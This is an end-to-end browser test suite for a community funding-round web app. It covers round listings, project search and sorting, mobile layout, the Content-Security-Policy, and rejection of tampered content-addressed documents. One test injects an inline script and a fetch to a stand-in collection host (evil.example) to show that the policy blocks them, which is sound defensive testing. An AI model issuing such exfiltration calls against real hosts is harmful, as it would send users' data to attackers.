import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, inject, it } from "vitest";
import { expectAccessible, expectNoPageErrors, openApp, pageErrorsOf, saveScreenshot } from "./support/browser.ts";
import { demoSummary, shown } from "./support/demo.ts";
import { journeyLifecycle } from "./support/journey.ts";

const CONTENT_STORE = path.resolve(import.meta.dirname, "..", "..", ".hyphae", "content");

describe("Explore: the rounds of the network and a round's projects", () => {
  const { browser } = journeyLifecycle();
  const demo = demoSummary();
  const cascadia = demo.rounds.find((round) => round.name === "Bioregional Commons Round");
  if (cascadia === undefined) throw new Error("the seed has no Bioregional Commons Round");
  const approved = cascadia.applications.filter((application) => application.status === "approved");

  it("lists open rounds with their pool, token, windows and counts", async () => {
    const page = await openApp(browser(), "/");
    const open = page.getByRole("region", { name: /Open now/ });
    // Three funding rounds and the translocal commons' quadratic voting round.
    await expect.poll(() => open.getByRole("article").count()).toBe(4);
    const card = open.getByRole("article").filter({ hasText: "Bioregional Commons Round" });
    await expect.poll(() => card.textContent()).toContain("Donations open");
    // The node that runs each round, by name from the node registry.
    await expect.poll(() => card.locator(".eyebrow").textContent()).toBe("Cascadia");
    const text = await card.textContent();
    expect(text).toContain(`Matching pool${shown(cascadia.matchingPool)} CUSD`);
    expect(text).toContain(`Projects${approved.length}`);
    expect(text).toMatch(/Applications .+ – .+Donations .+ – .+/);
    const knowledge = open.getByRole("article").filter({ hasText: "Translocal Knowledge Commons Round" });
    expect(await knowledge.textContent()).toContain("Applications open");
    expect(await knowledge.textContent()).toContain("ETH");
    expect(await knowledge.locator(".eyebrow").textContent()).toBe("Hyphae Translocal Commons");
    await expectAccessible(page);
    await saveScreenshot(page, "rounds");
    expectNoPageErrors(page);
  });

  it("shows a round's approved projects with donations, contributors and estimated match, best match first", async () => {
    const page = await openApp(browser(), "/");
    await page.getByRole("link", { name: "Bioregional Commons Round" }).click();
    await page.getByRole("heading", { level: 1, name: "Bioregional Commons Round" }).waitFor();
    const rows = page
      .getByRole("list")
      .filter({ has: page.locator(".project-row") })
      .getByRole("listitem");
    await expect.poll(() => rows.count()).toBe(approved.length);
    // Verified logos replace the initials once their bytes match their CIDs.
    await expect.poll(() => page.locator(".project-row img.logo").count()).toBe(approved.length);

    const byMatch = [...approved].sort((a, b) => Number(b.estimatedMatch) - Number(a.estimatedMatch));
    for (const [index, project] of byMatch.entries()) {
      const row = rows.nth(index);
      expect(await row.getByRole("heading").textContent()).toBe(project.project);
      expect(await row.getByTestId("donations").textContent()).toBe(`${shown(project.donations ?? "0")} CUSD`);
      expect(await row.getByTestId("contributors").textContent()).toBe(String(project.contributors));
      expect(await row.getByTestId("match").textContent()).toContain(`${shown(project.estimatedMatch ?? "0")} CUSD`);
    }
    const rejected = cascadia.applications.find((application) => application.status === "rejected");
    expect(await page.locator("main").textContent()).not.toContain(rejected?.project ?? "(none)");
    await expectAccessible(page);
    await saveScreenshot(page, "round");
    expectNoPageErrors(page);
  });

  it("searches by name, place or bioregion and sorts by any figure", async () => {
    const page = await openApp(browser(), `/rounds/${cascadia.address}`);
    const rows = page.locator(".project-row");
    await expect.poll(() => rows.count()).toBe(approved.length);
    const search = page.getByRole("searchbox", { name: "Search" });

    await search.fill("mycology");
    await expect.poll(() => rows.count()).toBe(1);
    expect(await rows.first().getByRole("heading").textContent()).toBe("Fraser River Community Mycology Lab");

    await search.fill("Willamette");
    await expect.poll(() => rows.count()).toBe(1);

    await search.fill("no such project anywhere");
    await expect.poll(() => rows.count()).toBe(0);
    expect(await page.getByText("No project matches").count()).toBe(1);

    await search.fill("");
    await page.getByLabel("Sort by").selectOption("name");
    await expect.poll(() => rows.count()).toBe(approved.length);
    const names = await rows.getByRole("heading").allTextContents();
    expect(names).toEqual([...names].sort((a, b) => a.localeCompare(b)));

    await page.getByLabel("Sort by").selectOption("contributors");
    const contributors = (await rows.getByTestId("contributors").allTextContents()).map(Number);
    expect(contributors).toEqual([...contributors].sort((a, b) => b - a));
    expectNoPageErrors(page);
  });

  it("fits a phone-width screen", async () => {
    const page = await openApp(browser(), `/rounds/${cascadia.address}`, { phone: true });
    await expect.poll(() => page.locator(".project-row").count()).toBe(approved.length);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    await expectAccessible(page);
    await saveScreenshot(page, "round-phone");
  });

  it("runs under its build's Content-Security-Policy, which refuses inline script and servers the build does not name", async () => {
    const page = await openApp(browser(), `/rounds/${cascadia.address}`);
    // Under the policy the page reads the chain, verifies documents and shows their logos (blob: and data: URLs).
    await expect.poll(() => page.locator(".project-row").count()).toBe(approved.length);
    await expect.poll(() => page.locator(".project-row img.logo").count()).toBe(approved.length);
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    expect(policy).toBe(
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; font-src 'self'; " +
        `connect-src ${inject("rpcUrl")} 'self'; object-src 'none'; base-uri 'none'; form-action 'none'`,
    );
    // The host's copy, to send as a header: the same policy, and framing forbidden, which only a header can say.
    const header = await fetch(new URL("/content-security-policy.txt", inject("appUrl")));
    expect(await header.text()).toBe(`${policy}; frame-ancestors 'none'\n`);
    // A policy covers only what follows it: every script of the page comes after it.
    const scriptsAfterPolicy = await page.evaluate(
      () =>
        document.querySelectorAll('meta[http-equiv="Content-Security-Policy"] ~ script').length ===
        document.scripts.length,
    );
    expect(scriptsAfterPolicy).toBe(true);
    expectNoPageErrors(page);

    // What injected code would try is refused, and reported as this suite's journeys would see it.
    const inlineScriptRan = await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.inlineScriptRan = true";
      document.head.append(script);
      return Reflect.get(window, "inlineScriptRan") === true;
    });
    expect(inlineScriptRan).toBe(false);
    await page.evaluate(() => fetch("https://evil.example/collect").catch(() => undefined));
    await expect
      .poll(() => pageErrorsOf(page))
      .toEqual([
        "Content-Security-Policy refused inline (script-src-elem)",
        "Content-Security-Policy refused https://evil.example/collect (connect-src)",
      ]);
  });

  it("shows a document that does not match its content identifier as such, never its content", async () => {
    const project = demo.projects.find((candidate) => candidate.name === "Salish Sea Seed Library");
    const cid = project?.metadata.replace("ipfs://", "");
    if (cid === undefined) throw new Error("no Salish Sea Seed Library in the demo");
    const file = path.join(CONTENT_STORE, cid);
    const original = readFileSync(file);
    writeFileSync(file, original.toString("utf8").replace("seed library", "casino"));
    try {
      const page = await openApp(browser(), `/rounds/${cascadia.address}`);
      await page.getByText(`does not match its content identifier ${cid}`).waitFor();
      expect(await page.locator("main").textContent()).not.toContain("casino");
      // The project is still listed, under its number, with its on-chain figures.
      expect(await page.locator(".project-row").count()).toBe(approved.length);
      expectNoPageErrors(page);
    } finally {
      writeFileSync(file, original);
    }
  });
});
